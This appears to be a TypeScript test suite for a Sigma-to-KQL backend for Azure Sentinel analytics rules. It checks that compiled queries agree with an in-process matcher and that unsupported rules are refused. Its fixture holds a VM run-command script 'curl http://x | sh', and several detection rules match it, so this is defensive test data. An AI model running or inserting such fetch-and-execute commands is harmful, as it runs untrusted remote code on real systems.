/**
 * The KQL backend on modifiers and conditions the built-in pack does not use yet: each rule is
 * compiled, validated by the Kusto language service, and run by the oracle over table rows, and
 * must agree with the in-process matcher row by row; what it cannot express is refused with why.
 */
import { describe, expect, it } from "vitest";
import { analyticsForRule, analyticsPack, MAX_QUERY_CHARS } from "../../src/azure/sentinel/analytics.js";
import { KqlUnsupported } from "../../src/kql/backend.js";
import type { ActivityEvent } from "../../src/model/records.js";
import { prepareRule } from "../../src/rules/loader.js";
import { normaliseCase, runCase } from "../../src/rules/tester.js";
import { parseRules } from "../../src/sigma/parse.js";
import { diagnose } from "./kusto.js";
import { runQuery } from "./oracle.js";
import { toRow } from "./rows.js";

function rule(detection: string) {
  const text = `title: t\nid: 11111111-1111-4111-8111-111111111111\nlevel: low\nlogsource: {product: azure, service: activitylogs}\ndetection:\n${detection}\n`;
  const parsed = parseRules(text, "t.yml").rules[0];
  if (!parsed) throw new Error("no rule");
  return parsed;
}

const base = {
  TimeGenerated: "2026-11-19T10:00:00Z",
  OperationNameValue: "Microsoft.Compute/virtualMachines/runCommand/action",
  ActivityStatusValue: "Success",
  EventDataId: "e1",
  _ResourceId: "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1",
  Caller: "alice@contoso.example.com",
  CallerIpAddress: "10.1.2.3",
  Properties_d: { requestbody: '{"properties":{"source":{"script":"curl http://x | sh"},"count":"7"}}' },
};

/** Matcher and oracle verdicts for each row: they must be equal. */
function both(detection: string, rows: Record<string, unknown>[]): { matcher: boolean[]; kql: boolean[] } {
  const parsed = rule(detection);
  const engineRule = prepareRule(parsed);
  const a = analyticsForRule(parsed);
  expect(diagnose(a.query)).toEqual([]);
  const matcher = rows.map(
    (r) => runCase({ subject: engineRule, rules: [engineRule], correlations: [] }, [r]).findings.length > 0,
  );
  const kql = rows.map((r) => {
    const events = normaliseCase([r]).records.filter((x): x is ActivityEvent => x.kind === "activity");
    return runQuery(a.query, events.map(toRow), { now: Date.parse("2026-11-20T00:00:00Z") }).length > 0;
  });
  return { matcher, kql };
}

const CASES: [string, string, Record<string, unknown>[], boolean[]][] = [
  [
    "status normalised (Success → Succeeded)",
    "  s:\n    status: Succeeded\n  condition: s",
    [base, { ...base, ActivityStatusValue: "Failed" }],
    [true, false],
  ],
  [
    "cidr",
    "  s:\n    CallerIpAddress|cidr: 10.0.0.0/8\n  condition: s",
    [base, { ...base, CallerIpAddress: "192.0.2.1" }, { ...base, CallerIpAddress: "" }],
    [true, false, false],
  ],
  [
    "not cidr over a missing address",
    "  s:\n    CallerIpAddress|cidr: 10.0.0.0/8\n  condition: not s",
    [base, { ...base, CallerIpAddress: "" }],
    [false, true],
  ],
  [
    "wildcard in the middle, case-insensitive",
    "  s:\n    properties.requestbody|contains: 'CURL*| SH'\n  condition: s",
    [base, { ...base, Properties_d: { requestbody: '{"a":"wget x"}' } }],
    [true, false],
  ],
  [
    "a path into the request body, keys case-insensitive",
    "  s:\n    properties.requestbody.Properties.Source.Script|startswith: curl\n  condition: s",
    [base, { ...base, Properties_d: { requestbody: '{"properties":{"source":{"script":"echo"}}}' } }],
    [true, false],
  ],
  [
    "numeric comparison",
    "  s:\n    properties.requestbody.properties.count|gte: 5\n  condition: s",
    [base, { ...base, Properties_d: { requestbody: '{"properties":{"count":"2"}}' } }],
    [true, false],
  ],
  [
    "regex with flags",
    "  s:\n    properties.requestbody|re|i: 'CURL\\s+http'\n  condition: s",
    [base, { ...base, Properties_d: { requestbody: "{}" } }],
    [true, false],
  ],
  [
    "all-linked values, exists, 1 of",
    "  a:\n    properties.requestbody|contains|all: [curl, sh]\n  b:\n    properties.requestbody.properties.missing|exists: true\n  condition: 1 of a* or b",
    [base, { ...base, Properties_d: { requestbody: '{"x":"curl"}' } }],
    [true, false],
  ],
  [
    "null and cased",
    "  a:\n    ResourceGroup: null\n  b:\n    Caller|cased: alice@contoso.example.com\n  condition: a or b",
    [base, { ...base, Caller: "ALICE@contoso.example.com" }],
    [true, false],
  ],
  [
    "base64offset expansion",
    "  s:\n    properties.requestbody|base64offset|contains: curl\n  condition: s",
    [{ ...base, Properties_d: { requestbody: "Y3VybCBodHRw" } }, base],
    [true, false],
  ],
];

describe("KQL backend, modifier by modifier", () => {
  for (const [name, detection, rows, want] of CASES) {
    it(`${name}: the query's verdicts are the matcher's`, () => {
      const { matcher, kql } = both(detection, rows);
      expect(matcher).toEqual(want);
      expect(kql).toEqual(matcher);
    });
  }

  it("refuses, with the reason, what KQL cannot say with the same meaning", () => {
    const refuse = (d: string) => {
      try {
        analyticsForRule(rule(d));
      } catch (e) {
        expect(e).toBeInstanceOf(KqlUnsupported);
        return (e as Error).message;
      }
      throw new Error("compiled");
    };
    expect(refuse("  k:\n    - curl\n  condition: k")).toMatch(/keyword/);
    expect(refuse("  s:\n    properties.requestbody|re: '(?=curl)'\n  condition: s")).toMatch(/lookaround/);
    expect(refuse("  s:\n    Caller: ''\n  condition: s")).toMatch(/empty/);
    expect(refuse("  s:\n    grant.canExecute: true\n  condition: s")).toMatch(/role definitions/);
    expect(refuse("  s:\n    NoSuchField: x\n  condition: s")).toMatch(/no AzureActivity column/);
  });

  it("a query longer than Sentinel allows is refused, not truncated", () => {
    const ops = Array.from({ length: 400 }, (_, i) => `      - Microsoft.Example/things${i}/write`).join("\n");
    const r = { ...rule(`  s:\n    operationName:\n${ops}\n  condition: s`), private: false };
    const pack = analyticsPack([r], []);
    expect(pack.rules).toEqual([]);
    expect(pack.refused[0]?.reason).toMatch(new RegExp(`over Sentinel's ${MAX_QUERY_CHARS}`));
  });
});
